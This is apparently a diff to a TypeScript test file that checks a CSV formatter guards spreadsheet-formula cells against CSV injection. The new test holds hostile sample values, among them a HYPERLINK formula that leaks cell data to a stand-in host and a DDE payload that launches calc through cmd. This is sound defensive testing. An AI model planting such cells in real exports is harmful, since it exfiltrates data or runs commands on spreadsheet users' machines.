@@ -28,16 +28,39 @@ describe("formatCsv", () => {
     expect(formatCsvField("")).toBe("");
   });
 
-  it("reads back to the same fields whatever the text holds", () => {
+  it("reads back to the same fields whatever the text holds (a formula-like one behind a ')", () => {
+    const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
     fc.assert(
       fc.property(fc.array(fc.tuple(fc.string(), fc.string({ unit: "grapheme" }))), (pairs) => {
         const rows = pairs.map(([id, text]) => ({ id, text, number: null }));
         const body = formatCsv(table(rows)).slice(1);
         expect(readCsv(body)).toEqual([
           ["id", "text", "number"],
-          ...pairs.map(([id, text]) => [id, text, ""]),
+          ...pairs.map(([id, text]) => [guarded(id), guarded(text), ""]),
         ]);
       }),
     );
+  });
+
+  it("keeps hostile cells from running as formulas in a spreadsheet (OWASP CSV injection)", () => {
+    const hostile = [
+      '=HYPERLINK("http://example.invalid/?leak="&A1,"點此")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "+1+1",
+      "-2+3",
+      "\t=1+1",
+      "\r=1+1",
+      "=1+1",
+    ];
+    const body = formatCsv(table(hostile.map((text, i) => ({ id: `r${i}`, text, number: -2 })))).slice(1);
+    const [, ...rows] = readCsv(body);
+    rows.forEach((row, i) => {
+      expect(row[1]).toBe(`'${hostile[i]}`);
+      expect(row[2]).toBe("-2"); // a number is data: written as it is
+    });
+    // Text that merely contains the characters later, and the Chinese full-width ＝, is left alone.
+    expect(formatCsvField("A=B")).toBe("A=B");
+    expect(formatCsvField("＝1")).toBe("＝1");
+    expect(formatCsvField("(一) 推動")).toBe("(一) 推動");
   });
 });
